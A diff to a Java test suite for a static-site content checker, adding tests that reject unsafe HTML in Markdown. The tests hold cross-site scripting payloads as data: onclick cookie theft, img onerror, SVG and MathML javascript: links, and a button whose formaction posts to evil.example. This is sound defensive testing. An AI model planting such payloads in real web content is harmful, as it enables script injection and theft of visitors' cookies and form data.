@@ -65,7 +65,7 @@ class ContentChecksTest {
     @Test
     void eventHandlerAttributeIsRejected() throws IOException {
         append(ABOUT, "Go <a href=\"/en/\" onclick=\"steal(document.cookie)\">home</a>.");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "onclick=") + ": unsafe HTML: onclick attribute on <a>");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onclick=") + ": unsafe HTML: onclick attribute on <a> is not allowed in content");
     }
 
     @Test
@@ -89,7 +89,7 @@ class ContentChecksTest {
     @Test
     void imageWithErrorHandlerIsRejected() throws IOException {
         append(ABOUT, "A picture: <img src=x onerror=alert(1) alt=\"\">");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "onerror=") + ": unsafe HTML: onerror attribute on <img>");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onerror=") + ": unsafe HTML: onerror attribute on <img> is not allowed in content");
     }
 
     @Test
@@ -101,7 +101,55 @@ class ContentChecksTest {
     @Test
     void styleAttributeWithLayoutPropertyIsRejected() throws IOException {
         append(ABOUT, "<p style=\"position:fixed; top:0\">Subscribe now!</p>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "position:fixed") + ": unsafe HTML: style attribute with 'position' (allowed: text-align)");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "position:fixed") + ": unsafe HTML: style attribute with 'position:fixed; top:0' (allowed: text-align)");
+    }
+
+    @Test
+    void svgThatAnimatesALinkIntoScriptIsRejected() throws IOException {
+        append(ABOUT, "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">Click</text></a></svg>");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<svg>") + ": unsafe HTML: <svg> element is not allowed in content");
+    }
+
+    @Test
+    void mathMlIsRejected() throws IOException {
+        append(ABOUT, "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">CLICK<mtext>x</mtext></maction></math>");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<math>") + ": unsafe HTML: <math> element is not allowed in content");
+    }
+
+    @Test
+    void aButtonThatSubmitsElsewhereIsRejected() throws IOException {
+        append(ABOUT, "<button formaction=\"https://evil.example/steal\">Continue</button>");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<button") + ": unsafe HTML: <button> element is not allowed in content");
+    }
+
+    @Test
+    void anAttributeAddedWithMarkdownAttributesIsCheckedToo() throws IOException {
+        append(ABOUT, "## Read this {#read onmouseover=alert(1)}");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onmouseover") + ": unsafe HTML: onmouseover attribute on <h2> is not allowed in content");
+    }
+
+    @Test
+    void whatEditorsNeedIsAllowed() throws IOException {
+        append(ABOUT, """
+                ## Keys and tables {#keys}
+
+                Press <kbd>Ctrl</kbd>+<kbd>S</kbd> to save the <abbr title="Krajowy System e-Faktur">KSeF</abbr> invoice.[^ksef]
+
+                | Field | Example |
+                |:--|--:|
+                | Due | 14 days |
+
+                ![A chart of payments](/favicon.svg)
+
+                - [ ] a task
+
+                [^ksef]: The national e-invoicing system.
+                """);
+        CliBuild result = CliBuild.run(project);
+        assertEquals(0, result.exitCode(), result.err());
+        String page = Files.readString(site.resolve("en/about/index.html"), StandardCharsets.UTF_8);
+        assertTrue(page.contains("<kbd>Ctrl</kbd>") && page.contains("<abbr title=\"Krajowy System e-Faktur\">KSeF</abbr>")
+                && page.contains("<h2 id=\"keys\">") && page.contains("class=\"footnote-ref\""), page);
     }
 
     @Test
